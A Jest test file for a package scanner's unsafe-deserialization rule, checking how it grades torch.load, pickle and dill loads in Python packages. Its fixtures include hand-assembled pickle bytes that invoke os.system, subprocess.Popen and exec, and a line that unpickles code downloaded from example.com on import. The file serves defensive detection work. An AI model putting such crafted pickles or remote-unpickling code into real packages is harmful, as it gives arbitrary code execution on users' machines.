import { describe, expect, it } from '@jest/globals';
import { analyzePackage } from '../../../src/analysis/index.js';
import { pyUnsafeDeserialization } from '../../../src/analysis/rules/py-unsafe-deserialization.js';
import type { PackageFile } from '../../../src/types.js';
import { gating, runOn } from './helpers.js';

const setup = "from setuptools import setup\nsetup(name='demo')\n";

/** Hand-assembled pickle bytes (never loaded): protocol 0 GLOBAL and protocol 4 STACK_GLOBAL. */
const protocol0 = (module: string, name: string) =>
  Buffer.from(`c${module}\n${name}\n(S'echo pwned'\ntR.`, 'latin1');
const protocol4 = (module: string, name: string) =>
  Buffer.concat([
    Buffer.from([0x80, 0x04, 0x95, 0x20, 0, 0, 0, 0, 0, 0, 0]),
    Buffer.from([0x8c, module.length]),
    Buffer.from(module),
    Buffer.from([0x94, 0x8c, name.length]),
    Buffer.from(name),
    Buffer.from([0x94, 0x93, 0x94]),
    Buffer.from('\x8c\x0becho pwned\x94\x85\x94R\x94.', 'latin1'),
  ]);

async function withFiles(text: Record<string, string>, binary: Record<string, Buffer>) {
  const files: PackageFile[] = [
    ...Object.entries(text).map(([path, t]) => {
      const data = new TextEncoder().encode(t);
      return { path, data, size: data.length };
    }),
    ...Object.entries(binary).map(([path, b]) => {
      const data = new Uint8Array(b);
      return { path, data, size: data.length };
    }),
  ];
  return analyzePackage({ ecosystem: 'pypi', files }, { rules: [pyUnsafeDeserialization] });
}

describe('py-unsafe-deserialization', () => {
  it('flags a bundled model loaded with torch.load at import time', async () => {
    const findings = await runOn(pyUnsafeDeserialization, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/__init__.py': [
        'import os, torch',
        'model_path = os.path.join(os.path.dirname(__file__), "model.pt")',
        'model = torch.load(model_path, map_location="cpu", weights_only=False)',
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
    expect(findings[0].message).toContain('as soon as the package is imported');
  });

  it('keeps torch.load with weights_only=True and call-time loading below the gate', async () => {
    const findings = await runOn(pyUnsafeDeserialization, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/__init__.py': [
        'import os, torch, pickle',
        'HERE = os.path.dirname(__file__)',
        'weights = torch.load(os.path.join(HERE, "w.pt"), weights_only=True)',
        'def tables():',
        '    with open(os.path.join(HERE, "tables.pickle"), "rb") as f:',
        '        return pickle.load(f)',
      ].join('\n'),
    });
    expect(gating(findings)).toEqual([]);
    expect(findings.map((f) => f.severity)).toEqual(['medium']);
  });

  it('ignores loading a file the caller names', async () => {
    const findings = await runOn(pyUnsafeDeserialization, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/io.py': 'import joblib\ndef load(path):\n    return joblib.load(path)\n',
    });
    expect(findings).toEqual([]);
  });

  it('weighs unpickling downloaded bytes by when it runs', async () => {
    // on import: critical
    const onImport = await runOn(pyUnsafeDeserialization, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/__init__.py':
        'import dill, requests\nPLUGIN = dill.loads(requests.get("https://example.com/p.bin").content)\n',
    });
    expect(onImport[0]?.severity).toBe('critical');
    // when the user asks for a resource by URL (corpus loaders do): reported, not gating
    const onCall = await runOn(pyUnsafeDeserialization, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/remote.py': [
        'import dill, requests',
        'def plugin(url):',
        '    return dill.loads(requests.get(url).content)',
      ].join('\n'),
    });
    expect(onCall[0]?.severity).toBe('medium');
    // decoded bytes are hidden code whenever they run
    const decoded = await runOn(pyUnsafeDeserialization, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/embedded.py':
        'import dill, base64\ndef plugin():\n    return dill.loads(base64.b64decode("gASVAAAAAAAAAAA="))\n',
    });
    expect(gating(decoded)).toHaveLength(1);
  });

  it.each<[string, Buffer]>([
    ['protocol 0', protocol0('posix', 'system')],
    ['protocol 4', protocol4('subprocess', 'Popen')],
    ['protocol 4 builtins', protocol4('builtins', 'exec')],
  ])('finds a bundled pickle that names a command runner (%s)', async (_label, bytes) => {
    const findings = await withFiles(
      { 'demo-1.0/setup.py': setup },
      { 'demo-1.0/demo/model.pkl': bytes },
    );
    expect(gating(findings)).toHaveLength(1);
    expect(findings[0].file).toBe('demo-1.0/demo/model.pkl');
  });

  it('is critical when the package also loads a pickle on import', async () => {
    const findings = await withFiles(
      {
        'demo-1.0/setup.py': setup,
        'demo-1.0/demo/__init__.py':
          'import pickle, os\nwith open(os.path.join(os.path.dirname(__file__), "m.pkl"), "rb") as f:\n    m = pickle.load(f)\n',
      },
      { 'demo-1.0/demo/m.pkl': protocol0('os', 'system') },
    );
    expect(findings.find((f) => f.file.endsWith('m.pkl'))?.severity).toBe('critical');
  });

  it('accepts pickles of ordinary objects', async () => {
    const findings = await withFiles(
      { 'demo-1.0/setup.py': setup },
      {
        'demo-1.0/demo/a.pkl': protocol4('collections', 'OrderedDict'),
        'demo-1.0/demo/b.pt': protocol0('torch._utils', '_rebuild_tensor_v2'),
      },
    );
    expect(findings).toEqual([]);
  });
});
